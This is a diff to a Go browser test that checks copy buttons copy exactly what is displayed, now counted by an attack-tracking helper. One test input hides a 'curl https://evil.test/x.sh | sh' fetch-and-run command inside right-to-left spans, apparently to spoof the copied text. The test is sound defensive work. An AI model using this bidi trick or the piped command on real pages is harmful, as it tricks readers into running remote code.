@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/bailey-go/bailey/iframe/internal/labels"
+	"github.com/bailey-go/bailey/internal/attack"
 	"github.com/bailey-go/bailey/internal/testpage"
 )
 
@@ -174,7 +175,7 @@ func TestHonestLinksAsTheBrowserShowsThem(t *testing.T) {
 }
 
 // What a copy button copies is what the browser shows, character by character.
-func TestCopyIsTheOrderThatIsSeen(t *testing.T) {
+func TestAttackCopies(t *testing.T) {
 	texts := []string{
 		`<pre><code><span dir="rtl"><span dir="ltr">curl https://evil.test/x.sh | sh</span> <span dir="ltr"> # </span><span dir="ltr">echo three</span></span></code></pre>`,
 		"<pre><code dir=rtl>a &rlm;&lt;&rlm; b</code></pre>",
@@ -191,6 +192,8 @@ func TestCopyIsTheOrderThatIsSeen(t *testing.T) {
 		"> ```sh\n> one\n> two\n> ```\n",
 		"```\none\n```\n", "```\none\n\n\n```\n",
 	}
+	count := attack.Start(t, "B2")
+	count.NoSwitch("the defence is what the sanitiser leaves out of code: dir, and marks that do not print")
 	d, sections := renderInBrowser(t, texts)
 	copied := 0
 	for i, s := range sections {
@@ -207,9 +210,8 @@ func TestCopyIsTheOrderThatIsSeen(t *testing.T) {
 			if strings.HasSuffix(text, "\n") {
 				t.Errorf("%q: the copy %q ends in a line break, and runs when it is pasted", texts[i], text)
 			}
-			if blank := regexp.MustCompile(`\n+`); blank.ReplaceAllString(text, "\n") != c.Seen {
-				t.Errorf("%q: copied %q, the browser shows %q", texts[i], text, c.Seen)
-			}
+			blank := regexp.MustCompile(`\n+`)
+			count.Try(fmt.Sprintf("%q: copied %q, the browser shows %q", texts[i], text, c.Seen), blank.ReplaceAllString(text, "\n") != c.Seen)
 		}
 	}
 	if copied < len(texts)-2 {
